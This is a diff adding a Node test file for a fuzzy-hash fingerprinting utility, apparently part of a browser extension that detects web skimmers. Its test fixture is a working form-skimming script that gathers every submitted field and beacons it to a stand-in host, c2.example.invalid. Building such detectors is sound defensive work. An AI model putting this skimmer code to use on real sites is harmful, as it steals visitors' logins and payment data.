@@ -0,0 +1,47 @@
+// FuzzyHash segment fingerprints (from firefox-extension/):  node --test test/*.test.js
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const FuzzyHash = require('../utils/fuzzy-hash.js');
+
+const SCRIPT = `
+function collect(form) {
+  var data = {};
+  for (var i = 0; i < form.elements.length; i++) { var el = form.elements[i]; if (el.name) data[el.name] = el.value; }
+  return data;
+}
+document.querySelectorAll('form').forEach(function (f) {
+  f.addEventListener('submit', function () { navigator.sendBeacon('https://c2.example.invalid/collect', JSON.stringify(collect(f))); });
+});`;
+
+// Best similarity of each segment of a to any segment of b
+const contained = (a, b) => a.map(sig => Math.max(...b.map(other => FuzzyHash.similarity(sig, other))));
+
+test('renamed locals, whitespace and a rotated C2 host keep every segment', () => {
+  const original = FuzzyHash.fingerprint(SCRIPT);
+  assert.ok(original.length >= 2, 'cut at top-level statements');
+  const variant = SCRIPT.replace(/\bdata\b/g, 'd').replace(/\bel\b/g, 'x').replace('c2.example.invalid', 'cdn.example.invalid').replace(/\n\s*/g, '');
+  assert.deepEqual(contained(original, FuzzyHash.fingerprint(variant)), original.map(() => 1));
+});
+
+test('segments are found again after a prepended statement; unrelated code does not match', () => {
+  const original = FuzzyHash.fingerprint(SCRIPT);
+  assert.deepEqual(contained(original, FuzzyHash.fingerprint('window.cart = [1, 2, 3];\n' + SCRIPT)), original.map(() => 1));
+
+  const unrelated = FuzzyHash.fingerprint(`var items = [1, 2, 3, 4];
+function total(list) { var sum = 0; for (var i = 0; i < list.length; i++) sum += list[i]; return sum; }
+console.log('total', total(items), items.map(function (n) { return n * 2; }).join(','));`);
+  for (const score of contained(original, unrelated)) assert.ok(score < 0.7, String(score));
+});
+
+test('short input has no fingerprint; signatures round-trip through hex', () => {
+  assert.equal(FuzzyHash.fingerprint('var a = 1;'), null);
+  assert.equal(FuzzyHash.fingerprint(42), null);
+
+  const [sig] = FuzzyHash.fingerprint(SCRIPT);
+  const hex = FuzzyHash.toHex(sig);
+  assert.equal(hex.length, FuzzyHash.config.numHashes * 4);
+  assert.deepEqual(Array.from(FuzzyHash.fromHex(hex)), Array.from(sig));
+  assert.equal(FuzzyHash.fromHex('zz'), null);
+  assert.equal(FuzzyHash.fromHex('g'.repeat(hex.length)), null);
+  assert.equal(FuzzyHash.similarity(sig, new Uint16Array(3)), 0);
+});